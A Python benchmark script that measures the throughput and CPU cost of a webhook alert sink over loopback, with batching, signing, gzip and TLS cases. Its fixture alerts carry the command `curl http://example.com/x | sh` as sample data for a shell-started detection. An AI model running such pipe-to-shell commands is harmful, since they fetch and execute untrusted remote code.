"""Alerts a second through the sink `webhook` over the loopback: by batch, with signatures, gzip and TLS.

The receiver is a process of its own that reads a request whole and answers 200; where there are few cores it takes its
share of them.
"""

import asyncio
import multiprocessing
import sys
import tempfile
import time
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

from aiohttp import web

from mozu.core.api import Metrics, Record
from mozu.core.delivery.encode.falco_json import FalcoJson
from mozu.core.delivery.memory_queue import MemoryQueue
from mozu.core.delivery.sink_worker import SinkWorker
from mozu.core.isolation.isolated import Isolated
from mozu.core.runtime.loop import run as run_loop
from mozu.core.testing import alert, context, records
from mozu.plugins.sinks.webhook.settings import WebhookSettings
from mozu.plugins.sinks.webhook.sink import build
from tests.support.https import Certificates
from tests.support.packing import packed

_SECRET = "whsec_" + "QUFB" * 10
_CASES: dict[str, dict[str, Any]] = {
    "single, one at a time": {"batch": "single"},
    "single, 8 at once": {"batch": "single", "concurrency": 8},
    "array of 100": {"batch": "array"},
    "array of 500": {"batch": "array", "batch_records": 500},
    "array of 500, signed": {"batch": "array", "batch_records": 500, "signing_secrets": [_SECRET]},
    "array of 500, signed, gzip": {
        "batch": "array",
        "batch_records": 500,
        "signing_secrets": [_SECRET],
        "gzip": True,
    },
    "array of 500, TLS": {"batch": "array", "batch_records": 500, "tls": {}},
    "template alertmanager, 500": {"template": "alertmanager", "batch_records": 500},
}


def _receive(pipe: Connection, certificates: Certificates | None) -> None:
    async def handle(request: web.Request) -> web.Response:
        await request.read()
        return web.Response()

    async def main() -> None:
        app = web.Application(client_max_size=64 << 20)
        app.router.add_post("/", handle)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        await web.TCPSite(
            runner, "127.0.0.1", 0, ssl_context=None if certificates is None else certificates.context()
        ).start()
        pipe.send(runner.addresses[0][1])
        await asyncio.Event().wait()

    run_loop(main())


def _batches(count: int) -> list[list[Record]]:
    """Return records in batches of 500, as the core delivers them."""
    values = {"proc.cmdline": "bash -c 'curl http://example.com/x | sh'", "proc.name": "bash", "user.name": "root"}
    made = records(*(alert("A shell was started", **values) for _ in range(count)))
    return [made[start : start + 500] for start in range(0, count, 500)]


async def _deliver(batches: list[list[Record]], settings: dict[str, Any]) -> float:
    sink = build(WebhookSettings.model_validate(settings), context())
    await sink.start()
    await sink.deliver(batches[0])
    begin = time.perf_counter()
    for batch in batches:
        outcomes = await sink.deliver(batch)
        assert not any(outcomes), outcomes
    seconds = time.perf_counter() - begin
    await sink.stop()
    return seconds


def _measure(settings: dict[str, Any], count: int, folder: Path, *, whole: bool = False) -> tuple[float, float]:
    """Alerts a second, and of the sender's CPU microseconds an alert."""
    certificates = Certificates(folder) if "tls" in settings else None
    ours, theirs = multiprocessing.Pipe()
    server = multiprocessing.Process(target=_receive, args=(theirs, certificates), daemon=True)
    server.start()
    scheme, tls = ("http", {}) if certificates is None else ("https", {"tls": {"ca": certificates.ca}})
    url = f"{scheme}://127.0.0.1:{ours.recv()}/"
    settings = {**settings, "url": url, "allow_private": True, **tls}
    work = _whole_way(count, settings) if whole else _deliver(_batches(count), settings)
    before = time.process_time()
    seconds = run_loop(work)
    cpu = time.process_time() - before
    server.terminate()
    server.join()
    return count / seconds, cpu / count * 1e6


async def _whole_way(count: int, settings: dict[str, Any]) -> float:
    """Seconds from a full queue in memory to the last acknowledgement, encoding included."""
    metrics = Metrics()
    isolated: Isolated[Any] = Isolated(
        "sink", "hook", build(WebhookSettings.model_validate(settings), context()), metrics
    )
    worker = SinkWorker(isolated, FalcoJson(), MemoryQueue(1 << 30, metrics), agent="host", on_closed=print)
    await worker.start()
    for batch in _batches(count):
        for record in batch:
            worker.accept(packed(record.alert))
    worker.queue.close()
    begin = time.perf_counter()
    await worker.run()
    seconds = time.perf_counter() - begin
    await worker.stop()
    return seconds


def main(count: int) -> None:
    """Print a table."""
    print(f"{'':30}{'alerts/s':>10}{'us CPU/alert':>14}")
    for name, settings in _CASES.items():
        size = count if settings.get("batch") != "single" else max(500, count // 20)
        with tempfile.TemporaryDirectory() as folder:
            rate, cpu = _measure(settings, size, Path(folder))
        print(f"{name:30}{rate:10,.0f}{cpu:14.1f}", flush=True)
    rate, _ = _measure({"batch_records": 500, "signing_secrets": [_SECRET]}, count, Path(), whole=True)
    print(f"{'queue, encoder, array of 500, signed':38}{rate:,.0f}")


if __name__ == "__main__":
    main(int(sys.argv[1]) if len(sys.argv) > 1 else 50_000)
